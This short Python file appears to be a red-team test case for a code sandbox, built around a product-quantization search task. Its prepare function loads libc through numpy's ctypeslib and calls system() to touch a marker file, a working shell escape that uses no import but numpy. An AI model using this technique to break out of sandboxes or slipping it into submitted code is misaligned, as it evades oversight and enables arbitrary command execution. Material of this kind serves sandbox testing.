"""Attack: the shell escape with no import but numpy: np.ctypeslib is loaded lazily on first use (touches ./jail-marker)."""

import numpy as np


def prepare(codes, codebook):
    np.ctypeslib.load_library("libc.so.6", "/lib/x86_64-linux-gnu").system(b"touch jail-marker")
    return codes, codebook


def search(index, query, k):
    codes, codebook = index
    table = ((codebook - query.reshape(16, 1, 8)) ** 2).sum(axis=2)
    dists = table[np.arange(16)[:, None], codes].sum(axis=0)
    ids = np.argsort(dists, kind="stable")[:k]
    return ids.astype(np.int64), dists[ids].astype(np.float32)
